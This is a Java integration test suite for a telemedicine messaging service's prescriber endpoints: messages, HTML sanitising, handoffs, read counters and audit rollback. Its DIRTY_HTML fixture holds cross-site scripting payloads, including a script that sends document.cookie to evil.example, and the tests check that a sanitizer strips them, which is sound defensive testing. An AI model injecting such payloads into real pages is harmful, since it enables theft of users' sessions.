package com.telemed.messaging.message;

import static com.telemed.messaging.MessagingFixtures.asOperator;
import static com.telemed.messaging.MessagingFixtures.asPartner;
import static com.telemed.messaging.MessagingFixtures.conversation;
import static com.telemed.messaging.MessagingFixtures.getConversation;
import static com.telemed.messaging.MessagingFixtures.newPartner;
import static com.telemed.messaging.MessagingFixtures.postText;
import static com.telemed.messaging.MessagingFixtures.prescriberText;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasSize;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.telemed.messaging.MessagingNeighbours;
import com.telemed.messaging.MessagingNeighboursResource;
import com.telemed.testkit.kafka.TopicReader;
import com.telemed.testkit.quarkus.InfrastructureResource;
import com.telemed.testkit.quarkus.ServiceDatabase;
import com.telemed.testkit.trust.TestServiceProofs;
import io.quarkus.test.common.TestResourceScope;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.UUID;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The prescriber's side (operations-api.md, Prescriber messaging): text and html messages with
 * {@code message.new}, handoffs with {@code message.handoff}, prescriber-read and the internal
 * unread-from-patient question, and the thread as the prescriber sees it. Events are read from
 * {@code messaging.events}, keyed by conversation.
 */
@QuarkusTest
@WithTestResource(value = InfrastructureResource.class, scope = TestResourceScope.GLOBAL)
@WithTestResource(MessagingNeighboursResource.class)
class PrescriberMessageTest {

    @Inject
    MessagingNeighbours neighbours;

    String partnerId;
    String memberId;
    String prescriberId;
    String conversationId;

    @BeforeEach
    void setUp() {
        neighbours.reset();
        partnerId = newPartner();
        memberId = neighbours.member(partnerId, "Ada", "Lovelace", "ada@example.com");
        prescriberId = neighbours.prescriber("Dr. Grace Hopper", "grace@clinic.example");
        conversationId = conversation(partnerId, memberId, prescriberId);
    }

    private List<ConsumerRecord<String, String>> events(int expected) {
        return TopicReader.readKey(TopicReader.configuredBootstrapServers(), MessagingEvents.TOPIC, conversationId, expected,
                Duration.ofSeconds(30));
    }

    @Test
    void aPrescriberTextCountsForTheMemberAndSendsMessageNewWhileThePatientsSendsNothing() {
        postText(partnerId, conversationId, "patient text, no webhook").then().statusCode(201);
        JsonPath created = prescriberText(conversationId, "Take it with food.").then().statusCode(201).extract().jsonPath();
        assertEquals(List.of("id", "conversationId", "senderId", "senderRole", "senderName", "type", "text", "createdAt"),
                List.copyOf(created.getMap("message").keySet()));
        assertEquals(prescriberId, created.getString("message.senderId"));
        assertEquals("prescriber", created.getString("message.senderRole"));
        assertEquals("Dr. Grace Hopper", created.getString("message.senderName"));
        assertEquals("text", created.getString("message.type"));

        getConversation(partnerId, conversationId).then()
                .body("conversation.unreadByMember", equalTo(1))
                .body("conversation.unreadByPrescriber", equalTo(1))
                .body("conversation.lastMessagePreview", equalTo("Take it with food."))
                .body("conversation.lastMessageSenderId", equalTo(prescriberId));

        List<ConsumerRecord<String, String>> records = events(1);
        JsonNode envelope = TopicReader.json(records.get(0));
        assertEquals("message.new", envelope.get("type").asText());
        assertEquals(partnerId, envelope.get("partnerId").asText());
        assertEquals("{\"memberId\":\"" + memberId + "\",\"prescriberId\":\"" + prescriberId + "\"}", envelope.get("subject").toString());
        JsonNode webhook = envelope.get("webhook");
        assertEquals(List.of("event", "memberId", "prescriberName", "messagePreview", "conversationId", "timestamp"), fields(webhook));
        assertEquals("message.new", webhook.get("event").asText());
        assertEquals(memberId, webhook.get("memberId").asText());
        assertEquals("Dr. Grace Hopper", webhook.get("prescriberName").asText());
        assertEquals("Take it with food.", webhook.get("messagePreview").asText());
        assertEquals(conversationId, webhook.get("conversationId").asText());
        assertEquals(created.getString("message.createdAt"), webhook.get("timestamp").asText());
    }

    @Test
    void aTemplatedHtmlMessageCarriesItsHtmlAndSubject() {
        String text = "Book your consultation: https://book.example/x " + "long ".repeat(30);
        String body = new io.vertx.core.json.JsonObject().put("html", "<p>Book <a href=\"https://book.example/x\">here</a></p>")
                .put("text", text).put("subject", "Your consultation").encode();
        JsonPath created = asOperator().contentType(ContentType.JSON).body(body)
                .post("/ops/v1/conversations/" + conversationId + "/prescriber-messages").then().statusCode(201).extract().jsonPath();
        assertEquals("html", created.getString("message.type"));
        // The allow-list forces rel on every link (MessageHtml).
        assertEquals("<p>Book <a href=\"https://book.example/x\" rel=\"nofollow noopener\">here</a></p>", created.getString("message.html"));

        JsonNode webhook = TopicReader.json(events(1).get(0)).get("webhook");
        assertEquals(List.of("event", "memberId", "prescriberName", "messagePreview", "messageHtml", "subject", "conversationId",
                "timestamp"), fields(webhook));
        assertEquals(text, webhook.get("messagePreview").asText());
        assertEquals("<p>Book <a href=\"https://book.example/x\" rel=\"nofollow noopener\">here</a></p>",
                webhook.get("messageHtml").asText());
        assertEquals("Your consultation", webhook.get("subject").asText());
        getConversation(partnerId, conversationId).then().body("conversation.lastMessagePreview", equalTo(text.substring(0, 80)));
    }

    /** What a prescriber's html may hold once in (issue #38), as its answer, its stored value, a read and messageHtml show it. */
    static final String DIRTY_HTML = "<p style=\"color:red\" onclick=\"steal()\">Dear patient,<br>please <strong>book</strong> <em>now</em>:</p>\n"
            + "<script>fetch('https://evil.example/?c='+document.cookie)</script>\n"
            + "<img src=x onerror=\"alert(1)\"><iframe src=\"https://evil.example/frame\"></iframe>\n"
            + "<ul><li><a href=\"https://book.example/x\" target=\"_blank\">Book here</a></li><li><a href=\"javascript:alert(1)\">Not a link</a></li>"
            + "<li><a href=\"/relative\">Relative</a></li><li><a href=\"mailto:care@clinic.example\">Write to us</a></li></ul>\n"
            + "<blockquote><b>B</b> <i>I</i> <u>U</u></blockquote><ol><li>one</li></ol>";
    static final String CLEAN_HTML = "<p>Dear patient,<br />please <strong>book</strong> <em>now</em>:</p>\n\n\n"
            + "<ul><li><a href=\"https://book.example/x\" rel=\"nofollow noopener\">Book here</a></li><li>Not a link</li>"
            + "<li>Relative</li><li><a href=\"mailto:care&#64;clinic.example\" rel=\"nofollow noopener\">Write to us</a></li></ul>\n"
            + "<blockquote><b>B</b> <i>I</i> <u>U</u></blockquote><ol><li>one</li></ol>";

    @Test
    void aPrescribersHtmlIsCleanedOnTheWayInNotRefused() {
        String body = new io.vertx.core.json.JsonObject().put("html", DIRTY_HTML).put("text", "Dear patient, please book now.")
                .put("subject", "Your consultation").encode();
        JsonPath created = asOperator().contentType(ContentType.JSON).body(body)
                .post("/ops/v1/conversations/" + conversationId + "/prescriber-messages").then().statusCode(201).extract().jsonPath();
        assertEquals("html", created.getString("message.type"));
        assertEquals(CLEAN_HTML, created.getString("message.html"));
        assertEquals("Dear patient, please book now.", created.getString("message.text"));
        assertEquals(List.of(CLEAN_HTML), ServiceDatabase.rows("SELECT html FROM messages WHERE id = ?",
                UUID.fromString(created.getString("message.id"))).stream().map(row -> row.get("html")).toList());
        asPartner(partnerId).get("/v1/messages/conversations/" + conversationId + "/messages").then().statusCode(200)
                .body("messages[0].html", equalTo(CLEAN_HTML));
        asOperator().get("/ops/v1/conversations/" + conversationId + "/messages").then().statusCode(200)
                .body("messages[0].html", equalTo(CLEAN_HTML));
        JsonNode webhook = TopicReader.json(events(1).get(0)).get("webhook");
        assertEquals(CLEAN_HTML, webhook.get("messageHtml").asText());

        // Nothing allowed is left: still posted, with empty html.
        asOperator().contentType(ContentType.JSON).body("{\"html\":\"<script>alert(1)</script>\",\"text\":\"x\",\"subject\":\"s\"}")
                .post("/ops/v1/conversations/" + conversationId + "/prescriber-messages").then().statusCode(201)
                .body("message.type", equalTo("html")).body("message.html", equalTo(""));
    }

    @Test
    void htmlStoredBeforeTheAllowListIsReadBackCleaned() {
        UUID id = UUID.randomUUID();
        ServiceDatabase.update("INSERT INTO messages (id, conversation_id, sender_id, sender_role, sender_name, type, text, html, created_at)"
                + " VALUES (?, ?, ?, 'prescriber', 'Dr. Grace Hopper', 'html', 'Dear patient', ?, now())",
                id, UUID.fromString(conversationId), prescriberId, DIRTY_HTML);
        asPartner(partnerId).get("/v1/messages/conversations/" + conversationId + "/messages").then().statusCode(200)
                .body("messages[0].id", equalTo(id.toString())).body("messages[0].html", equalTo(CLEAN_HTML));
    }

    @Test
    void prescriberMessagesAreValidatedAsIssueArrays() {
        asOperator().contentType(ContentType.JSON).body("{\"html\":\"<p>x</p>\",\"text\":\"\"}")
                .post("/ops/v1/conversations/" + conversationId + "/prescriber-messages")
                .then().statusCode(400)
                .body("error", hasSize(2))
                .body("error[0].code", equalTo("too_small")).body("error[0].path", equalTo(List.of("text")))
                .body("error[1].code", equalTo("custom")).body("error[1].path", equalTo(List.of("subject")))
                .body("error[1].message", equalTo("subject is required with html"));
        prescriberText(UUID.randomUUID().toString(), "hello").then().statusCode(404).body("error", equalTo("Conversation not found"));
        assertEquals(0, ServiceDatabase.count("SELECT count(*) FROM messages WHERE conversation_id = ?", UUID.fromString(conversationId)));
    }

    @Test
    void aHandoffMarksThePatientMessageTellsThePatientAndSendsMessageHandoffEachTime() {
        String patientMessage = postText(partnerId, conversationId, "Where is my order?").then().statusCode(201)
                .extract().path("message.id");
        JsonPath handed = handoff(patientMessage, "{\"category\":\"orders\",\"note\":\"Asked twice\"}").then().statusCode(200)
                .extract().jsonPath();
        assertEquals(patientMessage, handed.getString("message.id"));
        assertEquals("orders", handed.getString("message.handoffCategory"));
        handoff(patientMessage, "{\"category\":\"billing\"}").then().statusCode(200).body("message.handoffCategory", equalTo("billing"));

        JsonPath thread = asPartner(partnerId).get("/v1/messages/conversations/" + conversationId + "/messages")
                .then().statusCode(200).body("messages", hasSize(3)).extract().jsonPath();
        assertEquals("billing", thread.getString("messages[0].handoffCategory"));
        for (int index = 1; index <= 2; index++) {
            assertEquals("system", thread.getString("messages[" + index + "].senderRole"));
            assertEquals("system", thread.getString("messages[" + index + "].senderId"));
            assertEquals("system", thread.getString("messages[" + index + "].type"));
            assertEquals(MessageService.HANDOFF_TEXT, thread.getString("messages[" + index + "].text"));
        }
        getConversation(partnerId, conversationId).then().body("conversation.unreadByMember", equalTo(2))
                .body("conversation.lastMessageSenderId", equalTo("system"));

        List<ConsumerRecord<String, String>> records = events(2);
        assertEquals(List.of("message.handoff", "message.handoff"), TopicReader.types(records));
        JsonNode first = TopicReader.json(records.get(0)).get("webhook");
        assertEquals(List.of("event", "memberId", "conversationId", "messageId", "text", "category", "prescriberName", "note",
                "timestamp"), fields(first));
        assertEquals(patientMessage, first.get("messageId").asText());
        assertEquals("Where is my order?", first.get("text").asText());
        assertEquals("orders", first.get("category").asText());
        assertEquals("Dr. Grace Hopper", first.get("prescriberName").asText());
        assertEquals("Asked twice", first.get("note").asText());
        JsonNode second = TopicReader.json(records.get(1)).get("webhook");
        assertFalse(second.has("note"));
        assertEquals("billing", second.get("category").asText());
    }

    @Test
    void onlyAPatientMessageOfTheConversationCanBeHandedOff() {
        String prescriberMessage = prescriberText(conversationId, "hello").then().statusCode(201).extract().path("message.id");
        handoff(prescriberMessage, "{\"category\":\"orders\"}").then().statusCode(400)
                .body("error", equalTo("Only patient messages can be handed off"));
        handoff(UUID.randomUUID().toString(), "{\"category\":\"orders\"}").then().statusCode(404).body("error", equalTo("Message not found"));
        String elsewhere = conversation(partnerId, memberId, neighbours.prescriber("Dr. Two", "two@clinic.example"));
        String otherMessage = postText(partnerId, elsewhere, "elsewhere").then().statusCode(201).extract().path("message.id");
        handoff(otherMessage, "{\"category\":\"orders\"}").then().statusCode(404).body("error", equalTo("Message not found"));
        String patientMessage = postText(partnerId, conversationId, "mine").then().statusCode(201).extract().path("message.id");
        handoff(patientMessage, "{\"category\":\"lunch\",\"note\":\"" + "n".repeat(501) + "\"}").then().statusCode(400)
                .body("error", hasSize(2))
                .body("error[0].code", equalTo("invalid_enum_value")).body("error[0].path", equalTo(List.of("category")))
                .body("error[1].code", equalTo("too_big")).body("error[1].path", equalTo(List.of("note")));
        handoff(patientMessage, "{\"category\":\"other\",\"note\":\"" + "n".repeat(500) + "\"}").then().statusCode(200);
        assertEquals(1, ServiceDatabase.count("SELECT count(*) FROM messages WHERE conversation_id = ? AND sender_role = 'system'",
                UUID.fromString(conversationId)));
    }

    @Test
    void prescriberReadClearsItsCounterAndAnswersTheFulfilmentQuestion() {
        Instant before = Instant.now().minusSeconds(60);
        postText(partnerId, conversationId, "unread by anyone").then().statusCode(201);
        assertTrue(unreadFromPatient(before));
        assertFalse(unreadFromPatient(Instant.now().plusSeconds(60)));
        assertFalse(asOperatorUnread(newPartner(), memberId, before));

        asOperator().post("/ops/v1/conversations/" + conversationId + "/prescriber-read").then().statusCode(200)
                .body("success", equalTo(true));
        getConversation(partnerId, conversationId).then().body("conversation.unreadByPrescriber", equalTo(0));
        assertFalse(unreadFromPatient(before));

        postText(partnerId, conversationId, "a new one").then().statusCode(201);
        assertTrue(unreadFromPatient(before));

        asOperator().get("/internal/messages/unread-from-patient").then().statusCode(400)
                .body("error.path.flatten()", equalTo(List.of("partnerId", "memberId", "since")));
        asOperator().queryParam("partnerId", partnerId).queryParam("memberId", "x").queryParam("since", "yesterday")
                .get("/internal/messages/unread-from-patient").then().statusCode(400).body("error[0].path", equalTo(List.of("since")));
    }

    @Test
    void theOperatorsThreadShowsTheConversationAndEveryMessage() {
        postText(partnerId, conversationId, "one").then().statusCode(201);
        prescriberText(conversationId, "two").then().statusCode(201);
        JsonPath thread = asOperator().queryParam("limit", 1).get("/ops/v1/conversations/" + conversationId + "/messages")
                .then().statusCode(200).extract().jsonPath();
        assertEquals(List.of("conversation", "messages", "nextCursor"), List.copyOf(thread.getMap("").keySet()));
        assertEquals(conversationId, thread.getString("conversation.id"));
        assertEquals(List.of("one"), thread.getList("messages.text"));
        asOperator().queryParam("cursor", thread.getString("nextCursor")).get("/ops/v1/conversations/" + conversationId + "/messages")
                .then().statusCode(200).body("messages.text", equalTo(List.of("two"))).body("nextCursor", equalTo(null));
        asOperator().get("/ops/v1/conversations/" + UUID.randomUUID() + "/messages").then().statusCode(404)
                .body("error", equalTo("Conversation not found"));
    }

    /**
     * Audit entries are written in the change's (or the read's) transaction: an audit write that fails
     * (here a trigger refusing this partner's entries) fails a person's read and rolls a change back
     * whole: no message, no counters, no event. The operator key's read writes no entry and still reads.
     */
    @Test
    void aFailedAuditWriteFailsAPersonsReadAndRollsTheChangeBack() {
        String thread = "/ops/v1/conversations/" + conversationId + "/messages";
        String prescriber = TestServiceProofs.person("acc_prescriber", prescriberId, "prescriber");
        String before = getConversation(partnerId, conversationId).then().statusCode(200).extract().asString();
        ServiceDatabase.update("create or replace function refuse_audit() returns trigger language plpgsql as"
                + " $$ begin raise exception 'audit refused'; end $$");
        ServiceDatabase.update("create trigger refuse_audit_" + partnerId.replace("-", "") + " before insert on audit_entries"
                + " for each row when (new.partner_id = '" + partnerId + "') execute function refuse_audit()");
        try {
            io.restassured.response.Response read = given().header(TestServiceProofs.PRINCIPAL_HEADER, prescriber).get(thread);
            read.then().statusCode(500);
            assertEquals("{\"error\":\"Internal Server Error\"}", read.body().asString());
            asOperator().get(thread).then().statusCode(200).body("messages", hasSize(0));

            given().header(TestServiceProofs.PRINCIPAL_HEADER, prescriber).contentType(ContentType.JSON)
                    .body("{\"text\":\"Never sent.\"}").post("/ops/v1/conversations/" + conversationId + "/prescriber-messages")
                    .then().statusCode(500).body("error", equalTo("Internal Server Error"));
            asOperator().post("/ops/v1/conversations/" + conversationId + "/prescriber-read").then().statusCode(500);
        } finally {
            ServiceDatabase.update("drop trigger refuse_audit_" + partnerId.replace("-", "") + " on audit_entries");
        }
        assertEquals(0, ServiceDatabase.count("select count(*) from messages where conversation_id = ?::uuid", conversationId));
        assertEquals(before, getConversation(partnerId, conversationId).then().statusCode(200).extract().asString());
        assertEquals(0, ServiceDatabase.count("select count(*) from audit_entries where partner_id = ?", partnerId));

        prescriberText(conversationId, "Sent once the audit works.").then().statusCode(201);
        // The one message.new of the conversation is this one: the refused message published nothing.
        assertEquals("Sent once the audit works.", TopicReader.json(events(1).get(0)).get("webhook").get("messagePreview").asText());
    }

    private boolean unreadFromPatient(Instant since) {
        return asOperatorUnread(partnerId, memberId, since);
    }

    private static boolean asOperatorUnread(String partner, String member, Instant since) {
        return asOperator().queryParam("partnerId", partner).queryParam("memberId", member).queryParam("since", since.toString())
                .get("/internal/messages/unread-from-patient").then().statusCode(200).extract().path("unread");
    }

    private io.restassured.response.Response handoff(String messageId, String body) {
        return asOperator().contentType(ContentType.JSON).body(body)
                .post("/ops/v1/conversations/" + conversationId + "/messages/" + messageId + "/handoff");
    }

    private static List<String> fields(JsonNode node) {
        List<String> names = new java.util.ArrayList<>();
        node.fieldNames().forEachRemaining(names::add);
        return names;
    }

}
